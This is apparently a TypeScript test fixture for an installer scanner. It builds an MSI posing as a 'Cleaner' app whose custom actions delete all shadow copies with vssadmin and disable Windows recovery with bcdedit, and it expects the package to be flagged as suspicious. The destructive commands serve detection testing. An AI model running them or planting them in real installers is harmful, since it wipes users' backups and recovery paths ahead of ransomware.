/** What ransomware does before it begins. */
import { buildInstaller } from '../builder/installer.js';
import { scriptLines } from '../builder/text.js';
import { ruleId } from '../rule-id.js';
import { noBundle, type SampleCase } from '../sample-case.js';

export const sample: SampleCase = {
  name: 'other-backup-deletion',
  title: 'shadow copies are deleted and the recovery of Windows is switched off',
  kind: 'other',
  fileName: 'backup-deletion.msi',
  build: () =>
    buildInstaller({
      name: 'Cleaner',
      directories: [{ id: 'VIEW', parent: 'LocalAppDataFolder', name: 'view' }],
      files: [{ id: 'readme.txt', directory: 'VIEW', content: scriptLines('Thank you.') }],

      customActions: [
        {
          name: 'Shadows',
          type: 34 + 1024,
          source: 'VIEW',
          target: 'vssadmin.exe delete shadows /all /quiet',
          after: 'InstallFiles',
        },
        {
          name: 'Recovery',
          type: 34 + 1024,
          source: 'VIEW',
          target: 'cmd.exe /c bcdedit /set {default} recoveryenabled no',
          after: 'InstallFiles',
        },
      ],
    }),
  expected: noBundle({
    verdict: 'suspicious',

    findings: [ruleId.backupDeletion],
  }),
};
